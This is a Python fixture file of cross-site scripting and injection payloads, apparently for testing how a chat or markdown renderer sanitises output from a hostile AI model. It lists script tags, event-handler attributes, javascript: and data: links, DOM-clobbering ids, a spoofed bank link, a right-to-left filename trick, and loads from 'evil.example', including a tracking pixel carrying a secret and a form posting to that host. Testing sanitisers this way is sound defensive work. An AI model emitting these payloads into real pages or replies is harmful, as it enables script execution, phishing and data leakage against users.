"""What a hostile model writes: each piece wants to run a script, load something, or deceive."""

from __future__ import annotations

#: A host that nobody may ask.
EVIL = "http://evil.example"
RUN = "window.__pwned=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt src={EVIL}/a.js></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>tap</text></a></svg>',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>s</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<div onpointerover={RUN} style=position:fixed;inset:0>over everything</div>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml></math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f'```html onload="{RUN}"\n<script>{RUN}</script>\n```',
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"`<script>{RUN}</script>`",
    f"| <script>{RUN}</script> |\n|---|\n| <img src=x onerror={RUN}> |",
    f"$$\n\\href{{javascript:{RUN}}}{{x}} \\url{{javascript:{RUN}}}\n$$",
    f"$$\\htmlData{{onclick={RUN}}}{{x}} \\htmlStyle{{position:fixed}}{{y}}$$",
    f"$$\\includegraphics{{{EVIL}/tex.png}}$$",
)

LINKS = (
    f"[js](javascript:{RUN})",
    f"[js](JaVaScRiPt:{RUN})",
    f"[js](java&#10;script:{RUN})",
    f"[js](\x01javascript:{RUN})",
    f"[js](&#x6A;avascript:{RUN})",
    f"[js](vbscript:{RUN})",
    f"[data](data:text/html,<script>{RUN}</script>)",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"[blob](blob:{EVIL}/1) [file](file:///etc/passwd) [fs](filesystem:{EVIL}/1)",
    f"<javascript:{RUN}>",
    f"[ref][1]\n\n[1]: javascript:{RUN}",
    f"[![x]({EVIL}/i.png)](javascript:{RUN})",
    f'[title]({EVIL} "\\" onmouseover=\\"{RUN}")',
    "[//evil](//evil.example/x) [rel](/api/chats) [up](../../docs)",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}> [x](javascript:{RUN})",
    f"<a href=javascript:{RUN}>tap</a> <a href='{EVIL}' target=_top>tap</a>",
    "[https://bank.example](http://evil.example/login)",
    "[\u202egnp.exe\u202c](http://evil.example/\u202egnp.exe)",
)

LOADS = (
    f"![pixel]({EVIL}/pixel.png?secret=1)",
    "![protocol relative](//evil.example/pixel.png)",
    f"![svg](data:image/svg+xml,<svg onload='{RUN}' xmlns='http://www.w3.org/2000/svg'/>)",
    f"![js](javascript:{RUN})",
    f'<img srcset="{EVIL}/a.png 1x"> <picture><source srcset="{EVIL}/b.png"></picture>',
    f'<link rel=stylesheet href="{EVIL}/a.css"> <link rel=dns-prefetch href="{EVIL}">',
    f'<style>@import "{EVIL}/b.css"; body{{background:url({EVIL}/c.png)}}</style>',
    f'<div style="background:url({EVIL}/d.png)">styled</div>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><input name=q><button>Send</button></form>',
    f'<button formaction="javascript:{RUN}">press</button>',
    f'<object data="{EVIL}/o.swf"></object> <embed src="{EVIL}/e.swf">',
    f'<iframe src="{EVIL}"></iframe> <frameset><frame src="{EVIL}"></frameset>',
    f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" autoplay></video>',
    f"![ref]\n\n[ref]: {EVIL}/ref.png",
    "$$\\def\\a{\\a\\a}\\a$$",
)

#: What would mean more than text if it came to be in the page: names, ids, hidden characters.
NAMES = (
    '<a id="composer">clobber</a> <img name="body"> <form id="root"><input name="x"></form>',
    '<a id="user-content-fn-1" href="#composer">jump</a>',
    "# constructor\n\n## __proto__\n\n[x](#composer)",
)

PAYLOADS = SCRIPTS + LINKS + LOADS + NAMES
